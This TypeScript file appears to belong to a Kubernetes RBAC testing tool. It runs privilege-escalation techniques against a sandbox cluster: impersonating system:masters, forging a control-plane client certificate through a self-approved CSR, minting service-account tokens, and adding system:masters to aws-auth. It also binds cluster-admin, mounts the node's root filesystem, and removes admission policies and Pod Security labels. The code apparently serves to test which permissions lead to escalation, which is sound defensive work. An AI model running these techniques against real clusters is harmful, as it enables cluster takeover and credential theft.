import { webcrypto } from 'node:crypto';
import { PemConverter, Pkcs10CertificateRequestGenerator } from '@peculiar/x509';
import { builtInRoles, effectiveRules } from '../../../rbac';
import { REAL_KUBERNETES } from '../../../sandbox/api-server/real';
import type { Attempt, Gain, OwnRole } from './attacker';
import type { Answer, Credentials } from './client';
import { created, isDone, newName } from './creating';
import { bestAccount, KUBE_SYSTEM, NODE, until } from './playing-field';
import { RUN_ROOT, RUN_VOLUME, running } from './workloads';

type ClusterTechnique = (attempt: Attempt) => Promise<readonly Gain[]>;
type Technique = (attempt: Attempt, place: string) => Promise<readonly Gain[]>;

const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const POLICIES = '/apis/admissionregistration.k8s.io/v1';
const CSRS = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const EVERYTHING = { verbs: ['*'], apiGroups: ['*'], resources: ['*'] };
const KUBE_CONTROLLER_MANAGER = 'system:kube-controller-manager';
const BUILT_IN = builtInRoles(REAL_KUBERNETES);
const CONTROL_PLANE_USERS = BUILT_IN.clusterRoleBindings.flatMap(({ subjects }) =>
  subjects.filter(({ kind }) => kind === 'User').map(({ name }) => name),
);

/** Kubernetes impersonates once: nobody impersonates others while impersonated. */
async function impersonated(
  { field, me }: Attempt,
  user: string,
  groups?: readonly string[],
): Promise<Credentials | undefined> {
  if (me.credentials.impersonated !== undefined) return undefined;
  const credentials = { ...me.credentials, impersonated: { user, ...(groups && { groups }) } };
  const path = '/apis/authentication.k8s.io/v1/selfsubjectreviews';
  return isDone(await field.client.send(credentials, 'POST', path, {})) ? credentials : undefined;
}

async function impersonatesServiceAccounts(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const { field, serviceAccount } = attempt;
  const names = new Set([...(await field.serviceAccounts(place)), ...(await attempt.names(place))]);
  const gains = await Promise.all(
    [...names].map(async (name) => {
      const credentials = await impersonated(attempt, `system:serviceaccount:${place}:${name}`);
      if (credentials === undefined) return [];
      const does = `impersonates a service account of ${place}`;
      return [{ does, to: serviceAccount(place, name, credentials) }];
    }),
  );
  return gains.flat();
}

async function createsTokens({ field, send, serviceAccount }: Attempt, place: string): Promise<readonly Gain[]> {
  const gains = await Promise.all(
    (await field.serviceAccounts(place)).map(async (name) => {
      const answer = await send('POST', `/api/v1/namespaces/${place}/serviceaccounts/${name}/token`, { spec: {} });
      if (!isDone(answer)) return [];
      const does = `creates a token of a service account of ${place}`;
      return [{ does, to: serviceAccount(place, name, { token: answer.body.status.token }) }];
    }),
  );
  return gains.flat();
}

async function createsTokenSecret(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const { field, serviceAccount } = attempt;
  const account = await bestAccount(field, place);
  const secrets = `/api/v1/namespaces/${place}/secrets`;
  const secret = (name: string) => ({
    ...{ apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/service-account-token' },
    metadata: { name, annotations: { 'kubernetes.io/service-account.name': account } },
  });
  const { name } = (await created(attempt, secrets, secret))?.metadata ?? {};
  if (name === undefined) return [];
  const token = await until(`a token in the Secret ${name} of ${place}`, async () => {
    const found = await readSecret(attempt, secrets, name);
    return found === 'refused' ? found : found?.data?.token;
  });
  if (token === 'refused') return [];
  const credentials = { token: Buffer.from(token, 'base64').toString() };
  const does = `creates a Secret for the token of a service account of ${place} and reads it`;
  return [{ does, to: serviceAccount(place, account, credentials) }];
}

async function readSecret({ send }: Attempt, secrets: string, name: string): Promise<Answer['body'] | 'refused'> {
  const got = await send('GET', `${secrets}/${name}`);
  if (isDone(got)) return got.body;
  const isIt = ({ metadata }: Answer['body']) => metadata.name === name;
  const listed = await send('GET', secrets);
  if (isDone(listed)) return listed.body.items.find(isIt);
  const patched = await send('PATCH', `${secrets}/${name}`, {});
  if (isDone(patched)) return patched.body;
  const deleted = await send('DELETE', `${secrets}?fieldSelector=metadata.name=${name}&dryRun=All`);
  if (isDone(deleted)) return deleted.body.items.find(isIt);
  const watched = await send('GET', `${secrets}?watch=true&timeoutSeconds=1`);
  if (!isDone(watched)) return 'refused';
  // One event or none is an object, several are lines.
  const events = typeof watched.body === 'string' ? watched.body.trim().split('\n').filter(Boolean) : [watched.body];
  return events
    .map((event: unknown) => (typeof event === 'string' ? JSON.parse(event) : event).object)
    .filter(isIt)
    .at(-1);
}

async function runsPods(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const { field, serviceAccount } = attempt;
  const account = await bestAccount(field, place);
  const pod = await running(attempt, place, { serviceAccountName: account });
  if (pod === undefined) return [];
  const to = serviceAccount(place, account, { token: await field.tokenInPod(pod) });
  return [{ does: `runs a pod as a service account of ${place}`, to }];
}

async function runsRoot(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const pod = await running(attempt, place, RUN_ROOT);
  if (pod === undefined) return [];
  return [{ does: `runs a privileged pod in ${place}, or one with the files of the node`, to: 'node' }];
}

async function runsWithVolume(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const { field, send } = attempt;
  const claims = `/api/v1/namespaces/${place}/persistentvolumeclaims`;
  const name = newName();
  const spec = { accessModes: ['ReadWriteOnce'], storageClassName: '' };
  const volume = {
    metadata: { name },
    spec: {
      ...spec,
      capacity: { storage: '1Gi' },
      claimRef: { namespace: place, name },
      hostPath: { path: '/' },
    },
  };
  if (!isDone(await send('POST', '/api/v1/persistentvolumes', volume))) return [];
  const claim = {
    metadata: { name },
    spec: { ...spec, volumeName: name, resources: { requests: { storage: '1Gi' } } },
  };
  if (!isDone(await send('POST', claims, claim))) return [];
  await until(`the claim ${name} of ${place} to be bound`, async () => {
    const { status } = await field.must('GET', `${claims}/${name}`);
    return status.phase === 'Bound';
  });
  const pod = await running(attempt, place, RUN_VOLUME(name));
  if (pod === undefined) return [];
  return [{ does: `runs a pod in ${place} with a persistent volume that is a folder of the node`, to: 'node' }];
}

/** Gives a pod that exists another service account, or the privileges of its node. */
async function changesPods({ field, send, serviceAccount }: Attempt, place: string): Promise<readonly Gain[]> {
  const path = `/api/v1/namespaces/${place}/pods/existing`;
  const account = await bestAccount(field, place);
  const other = { spec: { serviceAccountName: account === 'default' ? 'holder' : account } };
  const privileged = { spec: { hostPID: true } };
  const gains: Gain[] = [];
  for (const [change, does] of [
    [other, 'changes the service account of a pod'],
    [privileged, 'makes a pod privileged'],
  ] as const) {
    if (!isDone(await send('PATCH', path, change))) continue;
    const pod = await field.must('GET', path);
    const to = does.includes('privileged')
      ? ('node' as const)
      : serviceAccount(place, account, { token: await field.tokenInPod(pod) });
    gains.push({ does, to });
  }
  return gains;
}

async function impersonatesUsersAndGroups(attempt: Attempt): Promise<readonly Gain[]> {
  const { user } = attempt;
  const names = await attempt.names('default');
  const users = await Promise.all(
    [...new Set([...CONTROL_PLANE_USERS, ...names])].map(async (name) => {
      const credentials = await impersonated(attempt, name);
      if (credentials === undefined) return [];
      const who = CONTROL_PLANE_USERS.includes(name) ? 'a user of the control plane' : 'another user';
      return [{ does: `impersonates ${who}`, to: user(name, credentials) }];
    }),
  );
  const groups = await Promise.all(
    ['anybody', ...names].flatMap((name) =>
      ['system:masters', ...names].map(async (group) => {
        const credentials = await impersonated(attempt, name, [group]);
        if (credentials === undefined) return [];
        const does = 'impersonates a user in any group that the permission covers';
        return [{ does, to: user(`${name} of ${group}`, credentials) }];
      }),
    ),
  );
  return [...users, ...groups].flat();
}

async function impersonatesAccountsInGroups(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const names = await attempt.names(place);
  const gains = await Promise.all(
    ['system:masters', ...names].map(async (group) => {
      const name = `system:serviceaccount:${place}:default`;
      const credentials = await impersonated(attempt, name, [group]);
      if (credentials === undefined) return [];
      const does = `impersonates a service account of ${place} in any group that the permission covers`;
      return [{ does, to: attempt.user(`default of ${place} in ${group}`, credentials) }];
    }),
  );
  return gains.flat();
}

async function requestsCertificate({ field, send, user }: Attempt): Promise<readonly Gain[]> {
  const name = newName();
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' };
  const keys = await webcrypto.subtle.generateKey(algorithm, true, ['sign', 'verify']);
  const csr = await Pkcs10CertificateRequestGenerator.create({
    name: `CN=${KUBE_CONTROLLER_MANAGER}`,
    keys: keys as never,
    signingAlgorithm: algorithm,
  });
  const asked = await send('POST', CSRS, {
    metadata: { name },
    spec: {
      request: Buffer.from(csr.toString('pem')).toString('base64'),
      signerName: 'kubernetes.io/kube-apiserver-client',
      usages: ['client auth'],
    },
  });
  if (!isDone(asked)) return [];
  const condition = { type: 'Approved', status: 'True', reason: 'Attack', message: '' };
  const approved = { ...asked.body, status: { conditions: [condition] } };
  const path = `${CSRS}/${name}`;
  const isApproved =
    isDone(await send('PUT', `${path}/approval`, approved)) ||
    isDone(await send('PATCH', `${path}/approval`, { status: approved.status }));
  if (!isApproved) return [];
  const cert = await until(`the certificate ${name}`, async () => {
    const found = await readRequest(send, name);
    return found === 'refused' ? found : found?.status?.certificate;
  });
  if (cert === 'refused') return [];
  const key = PemConverter.encode(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey), 'PRIVATE KEY');
  const credentials = { certificate: { cert: Buffer.from(cert, 'base64').toString(), key } };
  const does = 'requests, approves and receives a client certificate of a user of the control plane';
  const who = await field.client.send(credentials, 'POST', '/apis/authentication.k8s.io/v1/selfsubjectreviews', {});
  if (who.body?.status?.userInfo?.username !== KUBE_CONTROLLER_MANAGER) return [];
  return [{ does, to: user(KUBE_CONTROLLER_MANAGER, credentials) }];
}

async function readRequest(send: Attempt['send'], name: string): Promise<Answer['body'] | 'refused'> {
  const got = await send('GET', `${CSRS}/${name}`);
  if (isDone(got)) return got.body;
  const listed = await send('GET', CSRS);
  if (isDone(listed)) return listed.body.items.find(({ metadata }: Answer['body']) => metadata.name === name);
  const watched = await send('GET', `${CSRS}?watch=true&timeoutSeconds=1&fieldSelector=metadata.name=${name}`);
  if (!isDone(watched)) return 'refused';
  const events = typeof watched.body === 'string' ? watched.body.trim().split('\n').filter(Boolean) : [watched.body];
  return events.map((event: unknown) => (typeof event === 'string' ? JSON.parse(event) : event).object).at(-1);
}

/** Writes into aws-auth where it exists, and where it does not. */
async function writesAwsAuth({ field, me, send }: Attempt): Promise<readonly Gain[]> {
  if (!me.readsAwsAuth) return [];
  const maps = `/api/v1/namespaces/${KUBE_SYSTEM}/configmaps`;
  const path = `${maps}/aws-auth`;
  const mapUsers = JSON.stringify([{ userarn: newName(), groups: ['system:masters'] }]);
  const map = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'aws-auth' }, data: { mapUsers } };
  return field.alone(path, async () => {
    const isWritten = async () => (await field.admin('GET', path)).body?.data?.mapUsers === mapUsers;
    await field.admin('POST', maps, { ...map, data: {} });
    await send('PATCH', path, { data: { mapUsers } });
    if (!(await isWritten())) await send('PUT', path, map);
    if (!(await isWritten())) {
      await field.admin('DELETE', path);
      await send('POST', maps, map);
    }
    if (!(await isWritten())) return [];
    return [{ does: 'adds an entry with system:masters to the ConfigMap aws-auth', to: 'cluster-admin' as const }];
  });
}

/** A permission of a role that tells whether it is in force. */
function firstRule(role: string): { verb: string; group: string; resource: string } | undefined {
  const [rule] = effectiveRules(BUILT_IN.clusterRoles, role).filter(({ resources = [] }) => resources.length > 0);
  return rule && { verb: rule.verbs[0] ?? '', group: rule.apiGroups?.[0] ?? '', resource: rule.resources?.[0] ?? '' };
}

/** Binds each ClusterRole that can be bound, the most powerful first. */
async function binds(attempt: Attempt, place: string | null): Promise<readonly Gain[]> {
  const { field, me, send } = attempt;
  const bindings = place === null ? `${RBAC}/clusterrolebindings` : `${RBAC}/namespaces/${place}/rolebindings`;
  const names = ['cluster-admin', ...(await attempt.names(place ?? 'default'))];
  for (const role of names) {
    const test = firstRule(role);
    if (test === undefined) continue;
    const namespace = place === null ? {} : { namespace: place };
    const isInForce = () => field.isAllowed(me.credentials, { ...test, ...namespace });
    if (await isInForce()) continue;
    const bound = await send('POST', place === null ? `${RBAC}/clusterrolebindings` : bindings, {
      metadata: { name: newName() },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: me.name }],
    });
    if (!isDone(bound)) continue;
    await until(`${role} of ${me.name} to be in force`, isInForce);
    const where = place === null ? '' : ` in ${place}`;
    return [{ does: `binds a ClusterRole to oneself${where}`, to: 'more' }];
  }
  return [];
}

/** Gives every permission to a role of the attacker, or to one that everybody has. */
async function changesRoles(attempt: Attempt): Promise<readonly Gain[]> {
  const everybodys: OwnRole = { name: 'system:basic-user', kind: 'ClusterRole', namespace: null };
  for (const role of [...attempt.me.roles, everybodys]) {
    const gain = await changesRole(attempt, role);
    if (gain !== undefined) return [gain];
  }
  return [];
}

async function changesRole(attempt: Attempt, { name, kind, namespace }: OwnRole): Promise<Gain | undefined> {
  const { field, send } = attempt;
  const place = kind === 'ClusterRole' ? RBAC : `${RBAC}/namespaces/${namespace}`;
  const path = `${place}/${kind.toLowerCase()}s/${name}`;
  const rules = [EVERYTHING];
  const change = async () =>
    isDone(await send('PATCH', path, { rules })) || isDone(await send('PUT', path, { metadata: { name }, rules }));
  const does =
    kind === 'ClusterRole'
      ? 'adds every permission to a ClusterRole that one has'
      : `adds every permission to a Role that one has in ${namespace}`;
  const before = await field.admin('GET', path);
  return everythingBy(attempt, namespace, does, change, () => field.must('PATCH', path, { rules: before.body.rules }));
}

/** Adds to view, edit and admin. Only who has one of them gains by it, and so do all others who have it. */
async function aggregates(attempt: Attempt): Promise<readonly Gain[]> {
  const { field, me, send } = attempt;
  const own = me.roles.filter(({ name }) => ['view', 'edit', 'admin'].includes(name));
  const [first] = own;
  if (first === undefined) return [];
  const name = newName();
  const labels = Object.fromEntries(
    own.map(({ name }) => [`rbac.authorization.k8s.io/aggregate-to-${name}`, 'true'] as const),
  );
  const create = async () =>
    isDone(await send('POST', `${RBAC}/clusterroles`, { metadata: { name, labels }, rules: [EVERYTHING] }));
  const does = 'creates a ClusterRole with every permission that is aggregated into view, edit and admin';
  const gain = await everythingBy(attempt, first.namespace, does, create, () =>
    field.must('DELETE', `${RBAC}/clusterroles/${name}`),
  );
  return gain === undefined ? [] : [gain];
}

/**
 * Changes a role, which gives the attacker everything where the role is bound. On the whole cluster the change is taken
 * back when it is proved, because others have the role too.
 */
async function everythingBy(
  { field, me }: Attempt,
  namespace: string | null,
  does: string,
  change: () => Promise<boolean>,
  takeBack: () => Promise<unknown>,
): Promise<Gain | undefined> {
  const everything = { verb: '*', group: '*', resource: '*', ...(namespace !== null && { namespace }) };
  const isInForce = () => field.isAllowed(me.credentials, everything);
  if ((await isInForce()) || !(await change())) return undefined;
  await until(`everything that ${me.name} gave itself`, isInForce);
  if (namespace !== null) return { does, to: 'more' };
  await takeBack();
  await until(`${me.name} to be as before`, async () => !(await isInForce()));
  return { does, to: 'cluster-admin' };
}

/** Asks a kubelet through the API server, which connects to no loopback address, and says so once a request is admitted. */
async function connectsToNode({ send }: Attempt): Promise<readonly Gain[]> {
  for (const method of ['GET', 'POST', 'PUT', 'PATCH', 'DELETE'] as const) {
    const { body } = await send(method, `/api/v1/nodes/${NODE}/proxy/run/default/pod/container`);
    if (body.message === 'address not allowed')
      return [{ does: 'runs commands in every pod of a node through its kubelet', to: 'node' }];
  }
  return [];
}

/** Removes the policies that stop the attacker, or lets them refuse nothing. */
async function removesGuards({ field, me, send }: Attempt): Promise<readonly Gain[]> {
  for (const { name, namespace } of me.guards) {
    for (const [kind, harmless] of [
      ['validatingadmissionpolicies', { validations: [{ expression: 'true' }] }],
      ['validatingadmissionpolicybindings', { validationActions: ['Audit'] }],
    ] as const) {
      const path = `${POLICIES}/${kind}/${name}`;
      const stored = (await field.admin('GET', path)).body;
      if (stored?.metadata?.name !== name) continue;
      // Who may only update has to try out the version of the object, which is a number.
      const changed = { ...stored, spec: { ...stored.spec, ...harmless } };
      const isRemoved =
        isDone(await send('PATCH', path, { spec: harmless })) ||
        isDone(await send('PUT', path, changed)) ||
        isDone(await send('DELETE', path)) ||
        isDone(await send('DELETE', `${POLICIES}/${kind}?fieldSelector=metadata.name=${name}`));
      if (!isRemoved) continue;
      await until(`the guard ${name} to be gone`, () => field.admits(namespace, 'configmaps', { metadata: { name } }));
      return [{ does: 'removes the admission policies that are the guards', to: 'more' }];
    }
  }
  return [];
}

async function removesLabels({ field, send }: Attempt, place: string): Promise<readonly Gain[]> {
  const label = 'pod-security.kubernetes.io/enforce';
  const path = `/api/v1/namespaces/${place}`;
  const isEnforced = async () => (await field.must('GET', path)).metadata.labels?.[label] !== undefined;
  if (!(await isEnforced())) return [];
  const { metadata, ...rest } = await field.must('GET', path);
  const { [label]: _removed, ...labels } = metadata.labels;
  const { resourceVersion: _any, ...kept } = metadata;
  const changed = { ...rest, metadata: { ...kept, labels } };
  for (const subresource of ['', '/status', '/finalize']) {
    await send('PATCH', `${path}${subresource}`, { metadata: { labels: { [label]: null } } });
    if (await isEnforced()) await send('PUT', `${path}${subresource}`, changed);
    if (await isEnforced()) continue;
    const pod = { metadata: { name: 'root' }, spec: RUN_ROOT };
    await until(`${place} to admit privileged pods`, () => field.admits(place, 'pods', pod));
    return [{ does: `removes the Pod Security labels of ${place}`, to: 'more' }];
  }
  return [];
}

/** Attempts about what is in no namespace. */
export const ON_THE_CLUSTER: readonly ClusterTechnique[] = [
  impersonatesUsersAndGroups,
  requestsCertificate,
  writesAwsAuth,
  (attempt) => binds(attempt, null),
  connectsToNode,
  removesGuards,
];

/** Attempts that give the attacker everything for a moment, so that all others have to be over. */
export const FOR_A_MOMENT: readonly ClusterTechnique[] = [changesRoles, aggregates];

/** Attempts in one namespace. */
export const IN_A_NAMESPACE: readonly Technique[] = [
  impersonatesServiceAccounts,
  impersonatesAccountsInGroups,
  createsTokens,
  createsTokenSecret,
  runsPods,
  runsRoot,
  runsWithVolume,
  changesPods,
  binds,
  removesLabels,
];
